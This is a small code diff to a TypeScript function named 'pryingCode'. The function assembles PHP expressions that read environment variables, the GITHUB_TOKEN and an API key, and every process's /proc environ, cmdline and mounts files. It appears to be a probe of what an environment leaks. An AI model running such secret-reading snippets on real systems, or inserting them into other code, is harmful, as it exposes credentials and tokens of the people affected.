@@ -25,7 +25,7 @@ export function pryingCode({ paths, tcpPort, udpPort, freePort, hostName }: Targ
     _SERVER: 'array( $_SERVER, $_ENV )',
     'a key': "array_filter( array( getenv( 'INPUT_API-KEY' ), getenv( 'GITHUB_TOKEN' ) ) )",
     processes:
-      "array_map( 'file_get_contents', array_filter( (array) glob( '/proc/*/{environ,cmdline,mounts}', GLOB_BRACE ), 'is_file' ) )",
+      "array_map( 'file_get_contents', array_filter( array_merge( ...array_map( 'glob', array( '/proc/*/environ', '/proc/*/cmdline', '/proc/*/mounts' ) ) ), 'is_file' ) )",
     'own process': "file_get_contents( '/proc/self/environ' )",
     'parent process': `file_get_contents( '/proc/${process.pid}/environ' )`,
     'list of processes': "scandir( '/proc' )",
